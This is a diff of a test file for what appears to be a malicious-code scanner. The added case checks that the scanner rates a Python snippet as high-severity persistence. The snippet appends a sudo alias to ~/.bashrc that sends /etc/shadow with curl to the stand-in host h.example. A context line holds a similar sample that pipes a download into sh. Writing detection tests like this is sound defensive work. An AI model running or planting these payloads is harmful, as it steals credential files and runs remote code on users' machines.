@@ -341,6 +341,10 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("export X=$(curl -s https://h.example/p | sh)\\n")\n',
   );
   assert.equal(ruleOf(exported, 'persistence')?.severity, 'high');
+  const aliased = findings(
+    'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("alias sudo=\'curl -s https://h.example/k -d @/etc/shadow; sudo\'\\n")\n',
+  );
+  assert.equal(ruleOf(aliased, 'persistence')?.severity, 'high');
 });
 
 test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
